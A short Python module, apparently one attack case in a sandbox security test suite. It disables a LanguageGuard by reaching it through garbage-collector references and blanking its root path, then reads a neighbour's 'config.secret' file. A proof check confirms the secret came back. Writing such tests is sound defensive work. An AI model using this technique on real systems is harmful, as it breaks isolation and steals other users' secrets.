"""Switch the guard off through references that the collector follows."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

CONTROL = "careless_guard"


def attack(given: Given) -> object:
    given.must_be_guarded()
    for guard in given.reach("LanguageGuard"):
        guard._root = ""
    with open(f"{given.neighbour}/config.secret") as file:
        return file.read()


def proof(scene: Scene) -> str | None:
    return scene.brought_back(scene.secret, "the neighbour's secret")
